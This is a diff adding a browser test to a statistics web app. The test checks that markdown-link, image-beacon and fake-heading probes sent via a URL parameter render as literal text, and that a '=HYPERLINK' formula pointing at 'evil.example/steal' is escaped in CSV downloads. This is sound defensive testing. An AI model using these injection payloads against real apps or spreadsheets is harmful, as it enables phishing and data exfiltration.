@@ -6,9 +6,13 @@ One browser session, each page visited once per language (the test is slow; keep
 
 from __future__ import annotations
 
+import csv
+import io
 import os
 import re
+import shutil
 from pathlib import Path
+from urllib.parse import quote, urlparse
 
 import duckdb
 import pytest
@@ -245,3 +249,59 @@ def test_every_page_in_both_languages(served_warehouse: Path, tmp_path: Path) ->
     assert not problems, "\n".join(problems)
     # the tooltip check must have looked at real tooltips, not at nothing
     assert len(SEEN_TOOLTIPS) >= len(PAGES), SEEN_TOOLTIPS
+
+
+# The probe's links (issue 16): each must be quoted literally in the page's notice
+PROBES = (
+    "[Data withdrawn](https://evil.example/login)",
+    "![x](http://127.0.0.1:9/pixel.png)",
+    "x\n\n# OFFICIAL: the index was withdrawn",
+)
+FORMULA = '=HYPERLINK("http://evil.example/steal","open")'
+
+
+def _release_with_a_formula_label(warehouse: Path, folder: Path) -> Path:
+    """A copy of the release whose item wording (from the codebooks) starts with a formula."""
+    folder.mkdir()
+    path = folder / "cpi.duckdb"
+    shutil.copyfile(os.path.realpath(warehouse), path)
+    con = duckdb.connect(str(path))
+    con.execute("update marts.dim_items_v1 set text_en = ?", [FORMULA])
+    con.close()
+    return path
+
+
+def test_links_and_labels_arrive_as_text(served_warehouse: Path, tmp_path: Path) -> None:
+    release = _release_with_a_formula_label(served_warehouse, tmp_path / "formula")
+    requests: list[str] = []
+    with (
+        running_app(release, tmp_path / "app.log") as url,
+        chromium_page() as page,
+    ):
+        page.on("request", lambda r: requests.append(r.url))
+        for probe in PROBES:
+            page.goto(page_url(url, "regions", f"year={quote(probe)}&lang=en"))
+            wait_rendered(page, PAGES["regions"][0], 60_000)
+            main = page.locator('[data-testid="stMain"]')
+            notice = " ".join(main.locator('[data-testid="stAlert"]').all_inner_texts())
+            notice = notice.replace("\u2060", "")  # the word joiners that stop autolinks
+            assert " ".join(probe.split()) in " ".join(notice.split()), notice
+            assert main.locator('a[href*="evil.example"]').count() == 0
+            assert main.locator('img[src*="127.0.0.1"]').count() == 0
+            assert "OFFICIAL" not in " ".join(main.locator("h1, h2, h3").all_inner_texts())
+        hosts = {urlparse(r).netloc for r in requests}
+        assert not hosts & {"127.0.0.1:9", "evil.example"}, hosts  # no image or link fetched
+
+        # a codebook label that starts a formula reaches the CSV download as text
+        page.goto(page_url(url, "indicators", "lang=en"))
+        wait_rendered(page, PAGES["indicators"][0], 60_000)
+        _open_tables(page, "en")
+        button = page.locator('[data-testid="stDownloadButton"] button', has_text="Download CSV").first
+        with page.expect_download(timeout=60_000) as download:
+            button.click()
+        rows = list(csv.reader(io.StringIO(Path(download.value.path()).read_text(encoding="utf-8"))))
+        cells = [cell for row in rows for cell in row]
+        assert f"'{FORMULA}" in cells, rows[:3]
+        assert not [c for c in cells if c.startswith(("=", "@", "+"))], rows[:3]
+        numbers = [c for c in cells if re.fullmatch(r"-\d+(\.\d+)?", c)]
+        assert all(float(c) < 0 for c in numbers)  # negative numbers stay numbers
